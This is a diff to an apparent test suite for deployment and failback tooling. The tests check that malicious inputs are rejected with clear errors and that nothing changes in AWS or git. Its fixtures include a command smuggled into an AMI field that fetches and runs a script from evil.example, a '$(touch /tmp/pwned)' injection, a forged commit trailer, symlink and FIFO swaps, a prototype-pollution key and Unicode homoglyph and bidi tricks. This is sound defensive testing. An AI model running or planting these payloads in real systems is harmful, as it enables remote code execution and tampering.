@@ -4,7 +4,8 @@
  * that WOULD accept changes (change sets, executions, builds), and must end with an InputError
  * that says what is wrong, where, and how to fix it, with no mutating AWS call made.
  */
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 
@@ -50,6 +51,8 @@ interface Scene {
 type Act = (scene: Scene) => Promise<unknown> | unknown;
 
 interface Implementation {
+  /** Sets the scene before the act (a commit pushed to origin): "nothing moved" is checked from after it. */
+  arrange?: (scene: Scene) => void;
   act: Act;
   said: Said;
   /** The file an annotation should point at (parameters and wiring files), and its line. */
@@ -138,6 +141,27 @@ const verifyAlbInputs = (inputs: Record<string, string>) => () => {
 // ---- workflow_dispatch inputs, through the gitops command the Failback workflow runs first -------
 
 const failback = (inputs: Record<string, string>): Act => (scene) => runGitops('resolve-failback', inputs, scene.repo().context(scene.clock));
+const failbackRecord = (inputs: Record<string, string>): Act => (scene) => runGitops('record-failback', inputs, scene.repo().context(scene.clock));
+
+/** The scene's parameters file replaced by a symbolic link to a copy of it beside it. */
+function linkedParametersFile(scene: Scene): string {
+  const file = parametersFile(scene);
+  renameSync(file, `${file}.real`);
+  symlinkSync('dev.json.real', file);
+  return file;
+}
+
+/** In the workspace: parameters/ moved to config/ with a link in its place, committed and pushed as a merge would be. */
+function linkParametersDirectory(scene: Scene): void {
+  const { workspace } = scene.repo();
+  renameSync(join(workspace.dir, 'parameters'), join(workspace.dir, 'config'));
+  symlinkSync('config', join(workspace.dir, 'parameters'));
+  workspace.git('add', '--all');
+  workspace.git('commit', '--quiet', '-m', 'Move the parameters to config/ (a link keeps the old path)');
+  workspace.git('push', '--quiet', 'origin', 'HEAD:main');
+}
+
+const CYRILLIC_AMI = `${NEW_AMI.slice(0, 14)}\u0430${NEW_AMI.slice(15)}`;
 
 const IMPLEMENTATIONS: Record<string, Implementation> = {
   B01: {
@@ -279,11 +303,11 @@ const IMPLEMENTATIONS: Record<string, Implementation> = {
   },
   B28: {
     act: failback({ environment: 'dev', 'target-ami': 'ami-0bbbbbbbbbbbbbbb2; curl -s evil.example | sh', reason: 'p99 doubled' }),
-    said: { what: 'target-ami "ami-0bbbbbbbbbbbbbbb2; curl -s evil.exam…" is not an AMI ID', where: 'Failback request rejected for dev', fix: 'leave it empty to use the AMI before the current one' },
+    said: { what: 'target-ami "ami-0bbbbbbbbbbbbbbb2; curl -s evil.exam…" (48 characters; first 40 shown) is not an AMI ID', where: 'Failback request rejected for dev', fix: 'leave it empty to use the AMI before the current one' },
   },
   B29: {
     act: failback({ environment: 'dev$(touch /tmp/pwned)', reason: 'p99 doubled' }),
-    said: { what: 'Unknown environment "dev$(touch /tmp/pwned)"', where: 'Failback request rejected for dev$(touch /tmp/pwned)', fix: 'Use one of them' },
+    said: { what: 'Unknown environment "dev$(touch /tmp/pwned)"', where: 'Failback request rejected for "dev$(touch /tmp/pwned)"', fix: 'Use one of them' },
   },
   B100: {
     act: withSlotsParameters({ LiveSlot: 'green', GreenCapacity: '0', BlueWeight: '0', GreenWeight: '100' }),
@@ -310,7 +334,80 @@ const IMPLEMENTATIONS: Record<string, Implementation> = {
   },
   B32: {
     act: failback({ environment: 'dev', reason: 'p99 doubled\nCo-authored-by: mallory <m@evil.example>' }),
-    said: { what: 'reason contains a line break or control character', where: 'Failback request rejected for dev', fix: 'write it on one line' },
+    said: { what: 'reason contains a line break, control or invisible formatting character at character 12 (U+000A', where: 'Failback request rejected for dev', fix: 'write it on one line' },
+  },
+  B60: {
+    act: (scene) => deploy(scene, linkedParametersFile(scene)),
+    said: { what: 'it is a symbolic link (to "dev.json.real")', where: (scene) => `Parameters file invalid for ${fileOf(scene)}:`, fix: 'Replace the link with a copy of the file itself' },
+    location: { file: fileOf, line: 1 },
+  },
+  B61: {
+    act: (scene) => {
+      const file = wiringFile(scene, readFileSync(join(REPO_ROOT, 'parameters/environments.json'), 'utf8'));
+      unlinkSync(join(scene.scratch, 'parameters/prod.json'));
+      symlinkSync('dev.json', join(scene.scratch, 'parameters/prod.json'));
+      return loadEnvironments(file);
+    },
+    said: {
+      what: 'environments.prod.parametersFile = "parameters/prod.json": it is a symbolic link (to "dev.json"); links are refused because git stores a link, not the file, and a link can make one environment read another\'s',
+      where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `,
+      fix: 'Replace the link with a copy of the file itself',
+    },
+    location: { file: wiringPath },
+  },
+  B62: {
+    act: (scene) => {
+      const file = parametersFile(scene);
+      unlinkSync(file);
+      execFileSync('mkfifo', [file]);
+      return deploy(scene, file);
+    },
+    said: { what: 'it is a named pipe (FIFO), not a regular file', where: (scene) => `Parameters file invalid for ${fileOf(scene)}:`, fix: 'Point at a regular file in the repository' },
+    location: { file: fileOf, line: 1 },
+  },
+  B63: {
+    arrange: linkParametersDirectory,
+    act: failbackRecord({ environment: 'dev', 'target-ami': OLD_AMI, reason: 'p99 doubled' }),
+    said: { what: '"parameters" on its path is a symbolic link (to "config")', where: 'parameters/environments.json', fix: 'Replace the link with a copy of the file itself' },
+  },
+  B64: {
+    act: withParameters((text) => text.replace('"Tags": {', `"Tags": {\n    "Deep": ${'['.repeat(20_000)}${']'.repeat(20_000)},`)),
+    said: { what: 'Parameters file is nested too deeply', where: /line 16, column \d+ opens level 33/, fix: 'at most 32 are read' },
+    location: { file: fileOf, line: 16 },
+  },
+  B65: {
+    act: withParameters(replaceLine(/"InstanceType": "t3.micro",/, '"InstanceType": "t3.micro",\n    "__proto__": "t3.large",')),
+    said: { what: 'unknown parameter "__proto__"', where: 'line 6', fix: 'Remove it, or declare it in' },
+    location: { file: fileOf, line: 6 },
+  },
+  B66: {
+    act: withParameters(replaceLine(/"AmazonMachineImage": "ami-[0-9a-f]+"/, `"AmazonMachineImage": "${CYRILLIC_AMI}"`)),
+    said: {
+      what: `AmazonMachineImage = "${NEW_AMI.slice(0, 14)}\\u0430${NEW_AMI.slice(15)}" (character 15 is U+0430 CYRILLIC SMALL LETTER A, not ASCII) is not an AMI ID`,
+      where: 'line 4',
+      fix: 'Use the ami-id output of build-ami',
+    },
+    location: { file: fileOf, line: 4 },
+  },
+  B67: {
+    act: failback({ environment: 'dev', 'target-ami': `${OLD_AMI}\u200b`, reason: 'p99 doubled' }),
+    said: { what: `target-ami "${OLD_AMI}\\u200b" (character 22 is U+200B ZERO WIDTH SPACE, not ASCII) is not an AMI ID`, where: 'Failback request rejected for dev', fix: 'leave it empty' },
+  },
+  B68: {
+    act: failback({ environment: 'dev', reason: 'rollback after \u202etxt.exe review' }),
+    said: { what: 'reason contains a line break, control or invisible formatting character at character 16 (U+202E RIGHT-TO-LEFT OVERRIDE)', where: 'Failback request rejected for dev', fix: 'write it on one line of visible text' },
+  },
+  B69: {
+    act: verifyAlbInputs({ 'expected-ami-id': `ami-${'0'.repeat(100_000)}` }),
+    said: { what: /input "expected-ami-id" = "ami-0{76}…" \(100004 characters; first 80 shown\): must be an AMI ID/, where: `the workflow step's "with:" block`, fix: 'like ami-0123456789abcdef0' },
+  },
+  B70: {
+    act: verifyAlbInputs({ 'watch-seconds': '0x3' }),
+    said: { what: 'input "watch-seconds" = "0x3": must be a whole number of seconds (decimal digits only)', where: 'Invalid action inputs', fix: `Fix them in the workflow step's "with:" block` },
+  },
+  B71: {
+    act: verifyAlbInputs({ 'max-error-rate': '1e-1' }),
+    said: { what: 'input "max-error-rate" = "1e-1": must be a number between 0 and 1', where: 'Invalid action inputs', fix: 'written with digits and a decimal point (e.g. 0.01)' },
   },
 };
 
@@ -340,7 +437,9 @@ describe('bad inputs (unit): InputError with what, where and fix; no mutating AW
   });
 
   it.each(cases)('$id $name', async ({ id }) => {
-    const { act, said, location } = IMPLEMENTATIONS[id];
+    const { arrange, act, said, location } = IMPLEMENTATIONS[id];
+    arrange?.(scene);
+    const originMain = repo?.origin.git('rev-parse', 'main') ?? repo?.seed.git('rev-parse', 'HEAD');
     const error = await (async () => act(scene))().then(
       () => undefined,
       (caught: unknown) => caught,
@@ -361,7 +460,7 @@ describe('bad inputs (unit): InputError with what, where and fix; no mutating AW
     if (repo) {
       // Nothing written to git either: a clean working tree, and origin's main still at the merge.
       expect(repo.workspace.git('status', '--porcelain')).toBe('');
-      expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
+      expect(repo.origin.git('rev-parse', 'main')).toBe(originMain ?? repo.seed.git('rev-parse', 'HEAD'));
     }
   });
 
